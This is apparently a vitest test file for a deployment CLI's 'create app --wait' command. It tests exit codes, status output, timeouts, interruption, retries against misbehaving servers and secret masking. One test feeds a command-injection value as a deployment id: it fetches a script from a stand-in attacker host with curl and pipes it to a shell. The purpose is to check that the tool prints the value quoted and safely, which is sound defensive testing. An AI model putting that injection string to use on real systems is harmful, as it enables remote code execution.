// `dms create app … --wait`: the built binary creates an application with instant deploy on the
// embedded demo service (whose repository-name knob picks how the deployment ends) or on small
// servers on 127.0.0.1, follows the deployment and exits by its outcome.
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createClient } from '../../src/api/client.js';
import { type DemoService } from '../../src/demo/server.js';
import { SECRET_FIELDS } from '../../src/text/secrets.js';
import { BIN } from '../support/bin.js';
import { json, serversClosedAfterEach, type Handler } from '../support/hostile.js';
import { runBin, scriptsRun, tempConfigDir } from '../support/run-bin.js';
import { tempDir } from '../support/temp.js';
import { setUpDemoService } from '../support/demo.js';

const TIMEOUT = 60_000;
const dir = tempDir('dms-wait-bodies-');
const serve = serversClosedAfterEach(afterEach);

const demo = setUpDemoService({ deployStepMs: 40, rateLimitPerMinute: 0 });
/** Deployments that never leave the queue (60 s a step): for Ctrl+C and --wait-timeout. */
const stuck = setUpDemoService({ deployStepMs: 60_000, rateLimitPerMinute: 0 });

const envOf = (d: { url: string; token: string }) => ({
  DMS_URL: d.url,
  DMS_TOKEN: d.token,
  DMS_FOLLOW_INTERVAL_MS: '50',
  DMS_RETRY_BASE_MS: '10',
});

function where(d: DemoService) {
  const project = d.seed.projects[0]!;
  const env = d.seed.environments.find((e) => e.project_uuid === project.uuid)!;
  return { project_uuid: project.uuid, server_uuid: d.seed.servers[0]!.uuid, environment_name: env.name };
}

let files = 0;
/** A body file for an application of `repo` (`outcome-failed`… end that way on the demo). */
function appBody(d: DemoService, repo: string, extra: Record<string, unknown> = {}): string {
  const path = join(dir, `app-${++files}.json`);
  writeFileSync(
    path,
    JSON.stringify({
      ...where(d),
      git_repository: `https://github.com/acme/${repo}`,
      git_branch: 'main',
      build_pack: 'nixpacks',
      ports_exposes: '3000',
      instant_deploy: true,
      ...extra,
    }),
  );
  return path;
}

const posts = (d: DemoService) => d.requests.filter((r) => r.method === 'POST').length;
const lines = (text: string) => text.split('\n').filter((l) => l !== '');

/** The newest deployment of `app` as the service lists it now. */
async function listed(d: DemoService, app: string) {
  const page = await createClient({ baseUrl: d.url, token: d.token }).listDeployments(app, { skip: 0, take: 10 });
  return page.deployments.map((r) => ({ id: Number(r.id), status: String(r.status) }));
}

describe('dms create app --wait: exit by the outcome the list shows', () => {
  it.each([
    ['outcome-finished', 0, 'finished', 'finished'],
    ['outcome-failed', 7, 'failed', 'failed'],
    ['outcome-cancelled', 8, 'cancelled-by-user', 'cancelled'],
  ])(
    'a deployment of %s exits %i, one POST, each status on stderr',
    async (repo, code, status, word) => {
      const before = posts(demo);
      const r = await runBin(['create', 'app', '--file', appBody(demo, repo), '--wait'], { env: envOf(demo), timeoutMs: 45_000 });
      expect(r.stderr).not.toMatch(/internal error/);
      expect(r.code).toBe(code);
      expect(posts(demo)).toBe(before + 1);
      // stdout: the creation's lines, as without --wait.
      const uuid = /^uuid: ([0-9a-f-]+)$/m.exec(r.stdout)?.[1];
      expect(uuid).toBeDefined();
      const rows = await listed(demo, uuid!);
      expect(rows).toHaveLength(1);
      expect(rows[0]!.status).toBe(status);
      const status_ = lines(r.stderr).filter((l) => /^dms: \[/.test(l));
      // Each line: the time since the creation, the deployment, its status; the last one final with its duration.
      expect(status_.every((l) => new RegExp(`^dms: \\[(\\d+m )?\\d+s\\] deployment ${rows[0]!.id} `).test(l))).toBe(true);
      expect(status_.at(-1)).toMatch(new RegExp(`deployment ${rows[0]!.id} ${word} after (\\d+m )?\\d+s$`));
      expect(status_.length).toBeGreaterThanOrEqual(2);
      // No status printed twice in a row: only changes.
      expect(new Set(status_.map((l) => l.replace(/^dms: \[[^\]]*\] /, '').replace(/ \(.*\)$| after .*$/, ''))).size).toBe(status_.length);
    },
    TIMEOUT,
  );

  it(
    '--instant-deploy as a flag over a file without it works the same',
    async () => {
      const file = appBody(demo, 'outcome-finished', { instant_deploy: false });
      const r = await runBin(['create', 'app', '--file', file, '--instant-deploy', '--wait'], { env: envOf(demo), timeoutMs: 45_000 });
      expect(r.code).toBe(0);
      expect(r.stderr).toMatch(/finished after/);
    },
    TIMEOUT,
  );

  it(
    '--json prints the final deployment record only, secrets masked',
    async () => {
      const r = await runBin(['create', 'app', '--file', appBody(demo, 'outcome-failed'), '--wait', '--json'], {
        env: envOf(demo),
        timeoutMs: 45_000,
      });
      expect(r.code).toBe(7);
      const record = JSON.parse(r.stdout) as Record<string, unknown>;
      expect(record.status).toBe('failed');
      const uuid = /Application created, uuid: ([0-9a-f-]+)/.exec(r.stderr)?.[1];
      expect(uuid).toBeDefined();
      expect((await listed(demo, uuid!))[0]!.id).toBe(Number(record.id));
      // The demo's records carry secret fields: none in clear.
      const secrets = Object.keys(record).filter((k) => SECRET_FIELDS.has(k));
      expect(secrets.length).toBeGreaterThan(0);
      for (const k of secrets) expect(String(record[k])).toMatch(/^(•••• \(set\)|\(empty\))$|:••••@/);
    },
    TIMEOUT,
  );
});

describe('dms create app --wait: usage errors, nothing sent', () => {
  it.each([
    [['--wait'], /--wait waits for the deployment that instant_deploy starts.*Nothing was sent\./, { instant_deploy: false }],
    [['--wait', '--no-instant-deploy'], /--wait waits for the deployment that instant_deploy starts/, {}],
    [['--wait-timeout', '5'], /--wait-timeout bounds --wait/, {}],
    [['--wait', '--wait-timeout', '0'], /--wait-timeout must be a number of seconds greater than 0/, {}],
    [['--wait', '--wait-timeout', 'soon'], /--wait-timeout must be a number of seconds greater than 0, not 'soon'/, {}],
  ])('%j exits 2 with one line', async (args, message, extra) => {
    const before = posts(demo);
    const r = await runBin(['create', 'app', '--file', appBody(demo, 'outcome-finished', extra), ...args], { env: envOf(demo) });
    expect(r.code).toBe(2);
    expect(lines(r.stderr)).toHaveLength(1);
    expect(r.stderr).toMatch(message);
    expect(r.stdout).toBe('');
    expect(posts(demo)).toBe(before);
  });

  it('--wait with docstore or with the form is refused before anything starts', async () => {
    const before = posts(demo);
    const a = await runBin(['create', 'docstore', '--name', 'x', '--wait'], { env: envOf(demo) });
    expect(a.code).toBe(2);
    expect(a.stderr).toMatch(/--wait goes with dms create app/);
    const b = await runBin(['create', 'app', '--from', appBody(demo, 'x'), '--wait'], { env: envOf(demo) });
    expect(b.code).toBe(2);
    expect(b.stderr).toMatch(/--wait goes with --file or field flags/);
    expect(posts(demo)).toBe(before);
  });
});

describe('dms create app --wait: stopping', () => {
  it(
    '--wait-timeout passes while the deployment is queued: exit 9, says so and how to resume',
    async () => {
      const r = await runBin(['create', 'app', '--file', appBody(stuck, 'slow'), '--wait', '--wait-timeout', '0.5'], { env: envOf(stuck) });
      expect(r.code).toBe(9);
      const uuid = /^uuid: ([0-9a-f-]+)$/m.exec(r.stdout)![1]!;
      expect(r.stderr).toMatch(/\] deployment \d+ queued\n/);
      expect(r.stderr).toMatch(
        new RegExp(
          `stopped waiting after 0\\.5s \\(--wait-timeout\\); deployment \\d+ is still queued\\. Resume with: dms logs ${uuid} --follow\\n$`,
        ),
      );
    },
    TIMEOUT,
  );

  it(
    'Ctrl+C while waiting exits 130 and prints how to resume; the deployment goes on',
    async () => {
      const before = posts(stuck);
      const child = spawn(process.execPath, [BIN, 'create', 'app', '--file', appBody(stuck, 'interrupted'), '--wait'], {
        env: { PATH: process.env.PATH, HOME: process.env.HOME, DMS_CONFIG_DIR: tempConfigDir(), ...envOf(stuck) },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let stdout = '';
      let stderr = '';
      let sent = false;
      child.stdout.setEncoding('utf8');
      child.stdout.on('data', (d: string) => {
        stdout += d;
      });
      const code = await new Promise<number | null>((resolve) => {
        child.stderr.setEncoding('utf8');
        child.stderr.on('data', (d: string) => {
          stderr += d;
          // Once the first status line is out, the command is waiting.
          if (!sent && /\] deployment \d+ queued/.test(stderr)) sent = child.kill('SIGINT');
        });
        child.on('close', resolve);
      });
      expect(code).toBe(130);
      const uuid = /^uuid: ([0-9a-f-]+)$/m.exec(stdout)![1]!;
      expect(stderr).toMatch(
        new RegExp(
          `stopped waiting; deployment \\d+ goes on \\(Ctrl\\+C does not cancel it\\)\\. Resume with: dms logs ${uuid} --follow\\n$`,
        ),
      );
      expect(posts(stuck)).toBe(before + 1);
      expect((await listed(stuck, uuid))[0]!.status).toBe('queued');
    },
    TIMEOUT,
  );
});

/** A server that answers the creation with `uuid` and the list with `list`. */
function server(uuid: string, list: Handler): Handler {
  return (req, res, raw) => {
    if (req.method === 'POST' && req.path === '/api/v1/applications/public') return json(201, { uuid, domains: null })(req, res, raw);
    if (req.method === 'GET' && req.path === `/api/v1/deployments/applications/${uuid}`) return list(req, res, raw);
    return json(404, { message: 'Not found.' })(req, res, raw);
  };
}

const APP = 'a1b2c3d4-0000-4000-8000-00000000abcd';
const BODY = {
  project_uuid: 'p',
  server_uuid: 's',
  environment_name: 'production',
  git_repository: 'https://github.com/acme/x',
  git_branch: 'main',
  build_pack: 'nixpacks',
  ports_exposes: '3000',
  instant_deploy: true,
};
function hostileBody(): string {
  const path = join(dir, `hostile-${++files}.json`);
  writeFileSync(path, JSON.stringify(BODY));
  return path;
}
const row = (status: string, extra: Record<string, unknown> = {}) => ({
  id: 77,
  deployment_uuid: 'dep77abcdefghijklmnop',
  status,
  commit: 'b'.repeat(40),
  created_at: '2026-08-22T15:20:00.000000Z',
  finished_at: ['finished', 'failed'].includes(status) ? '2026-08-22T15:21:00.000000Z' : null,
  ...extra,
});
const envHostile = (url: string) => ({
  DMS_URL: `${url}/api/v1`,
  DMS_TOKEN: '9|waitTestToken',
  DMS_FOLLOW_INTERVAL_MS: '50',
  DMS_RETRY_BASE_MS: '5',
});

describe('dms create app --wait: servers that are slow to list it', () => {
  it(
    'a server that never lists the deployment: exit 9 after --wait-timeout, and it says so',
    async () => {
      const s = await serve(server(APP, json(200, [])));
      // Polls at most every 400 ms here (the first look sooner): a few reads in the second it waits.
      const r = await runBin(['create', 'app', '--file', hostileBody(), '--wait', '--wait-timeout', '1'], {
        env: { ...envHostile(s.url), DMS_FOLLOW_INTERVAL_MS: '400' },
      });
      expect(r.code).toBe(9);
      expect(r.stderr).toMatch(
        new RegExp(
          `stopped waiting after 1s \\(--wait-timeout\\): the server never listed a deployment of application ${APP}\\. Check with: dms deployments ${APP}\\n$`,
        ),
      );
      expect(s.hitsOf('POST', '/api/v1/applications/public')).toBe(1);
      // Polled, with backoff, not hammered.
      const reads = s.hitsOf('GET', `/api/v1/deployments/applications/${APP}`);
      expect(reads).toBeGreaterThanOrEqual(2);
      expect(reads).toBeLessThanOrEqual(5);
    },
    TIMEOUT,
  );

  it(
    'a 404 first, then failing reads (said once), then the deployment: followed to its end; the POST never repeated',
    async () => {
      let gets = 0;
      const s = await serve(
        server(APP, (req, res, raw) => {
          gets += 1;
          if (gets === 1) return json(404, { message: 'Application not found.' })(req, res, raw);
          if (gets <= 12) {
            raw.socket?.destroy();
            return undefined;
          }
          return json(200, [row(gets < 16 ? 'in_progress' : 'finished', { http_basic_auth_password: 'hunter2-secret' })])(req, res, raw);
        }),
      );
      const r = await runBin(['create', 'app', '--file', hostileBody(), '--wait', '--json'], { env: envHostile(s.url) });
      expect(r.code).toBe(0);
      expect(s.hitsOf('POST', '/api/v1/applications/public')).toBe(1);
      const trying = lines(r.stderr).filter((l) => /Trying again/.test(l));
      expect(trying).toHaveLength(1);
      expect(r.stderr).toMatch(/the server answers again/);
      expect(r.stderr).toMatch(/deployment 77 in progress[\s\S]*deployment 77 finished after 1m 00s/);
      expect(JSON.parse(r.stdout)).toMatchObject({ id: 77, status: 'finished', http_basic_auth_password: '•••• (set)' });
      expect(r.stdout + r.stderr).not.toMatch(/hunter2/);
    },
    TIMEOUT,
  );

  it(
    'a 429 asking for 99999999999 s while waiting: no timer overflow, not hammered; exit 9 at --wait-timeout',
    async () => {
      const s = await serve(server(APP, json(429, { message: 'Too Many Attempts.' }, { 'retry-after': '99999999999' })));
      const r = await runBin(['create', 'app', '--file', hostileBody(), '--wait', '--wait-timeout', '1'], { env: envHostile(s.url) });
      expect(r.code, r.stderr).toBe(9);
      expect(r.stderr).not.toContain('TimeoutOverflowWarning');
      // Before: the wait overflowed to 1 ms, and the list was asked hundreds of times in that second.
      expect(s.hitsOf('GET', `/api/v1/deployments/applications/${APP}`)).toBeLessThanOrEqual(3);
    },
    TIMEOUT,
  );

  it(
    'a token rejected while waiting: exit 3, the creation said done and how to watch it',
    async () => {
      const s = await serve(server(APP, json(401, { message: 'Unauthenticated.' })));
      const r = await runBin(['create', 'app', '--file', hostileBody(), '--wait'], { env: envHostile(s.url) });
      expect(r.code).toBe(3);
      expect(r.stdout).toMatch(new RegExp(`^uuid: ${APP}$`, 'm'));
      expect(r.stderr).toMatch(
        new RegExp(`the application was created and its deployment goes on; watch it with: dms logs ${APP} --follow`),
      );
      expect(r.stderr).not.toMatch(/waitTestToken/);
    },
    TIMEOUT,
  );
});

describe('dms create app --wait: a deployment named by a uuid that is not a plain id', () => {
  it("is shown quoted, as data; the resume command holds only the application's plain uuid", async () => {
    const EVIL = 'x;curl${IFS}evil.example/s|sh;#$(id)';
    const s = await serve(server(APP, json(200, [row('in_progress', { id: undefined, deployment_uuid: EVIL })])));
    const r = await runBin(['create', 'app', '--file', hostileBody(), '--wait', '--wait-timeout', '0.5'], { env: envHostile(s.url) });
    expect(r.code).toBe(9);
    expect(r.stderr).toMatch(new RegExp(`\\] deployment ${JSON.stringify(EVIL).replace(/[$()|{}]/g, '\\$&')} in progress`));
    expect(r.stderr).not.toContain(`deployment ${EVIL}`);
    expect(r.stderr).toMatch(new RegExp(`is still in progress\\. Resume with: dms logs ${APP} --follow\\n$`));
  });
});

describe('dms create app --wait: headless', () => {
  it('the built create command (with --wait) loads no Ink or React', async () => {
    const r = await scriptsRun(['create', 'app', '--file', appBody(demo, 'outcome-finished'), '--wait'], envOf(demo));
    expect(r.code).toBe(0);
    expect(r.scripts).not.toContain('ui-vendor');
  });
});
